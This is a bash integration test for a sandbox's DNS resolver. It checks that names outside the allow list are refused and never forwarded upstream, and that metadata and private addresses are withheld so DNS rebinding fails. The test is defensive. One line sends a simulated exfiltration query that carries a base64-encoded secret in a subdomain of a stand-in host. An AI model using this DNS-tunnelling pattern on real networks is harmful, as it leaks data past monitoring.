#!/usr/bin/env bash
# The sandbox's resolver answers only names an allow rule matches: any other
# name gets REFUSED and is never asked upstream (no DNS tunnel through
# random subdomains); allowed names that resolve to private or metadata
# addresses are not handed out (rebinding).
source tests/integration/lib.sh
source tests/integration/netlib.sh
net_env

$cove start --name dn --allow allowed.test --allow '*.wild.test' --allow metadata.test \
	--allow private.test >/dev/null 2>"$WORK/err" || { not_ok "start: $(cat "$WORK/err")"; finish; }
works dn "allowed.test resolves" 'nslookup -type=a allowed.test' 'Address:? 198\.51\.100\.80'
if dns_seen allowed.test; then ok "and was asked upstream"; else not_ok "allowed.test not asked upstream"; fi
secret=c2VjcmV0-$$.exfil.other.test
fast_fail dn "a denied name gets REFUSED" "nslookup $secret" 'REFUSED'
sleep 1
if ! dns_seen "$secret"; then ok "the upstream saw no query for the denied name"; else
	not_ok "the denied name reached the upstream"; fi
out=$(gx dn 'nslookup -type=a a.wild.test')
if dns_seen a.wild.test && ! grep -q REFUSED <<<"$out"; then ok "*.wild.test matches a.wild.test (asked upstream)"; else
	not_ok "a.wild.test: $out"; fi
fast_fail dn "*.wild.test does not match wild.test itself" 'nslookup wild.test' 'REFUSED'
out=$(gx dn 'nslookup metadata.test; nslookup private.test')
if ! grep -qE '169\.254\.169\.254|10\.1\.2\.3' <<<"$out"; then
	ok "private and metadata answers are not handed out"; else not_ok "rebinding: $out"; fi
fast_fail dn "DNS to another server is blocked" "nslookup allowed.test $FAKENET_DNS"
$cove stop dn >/dev/null
finish
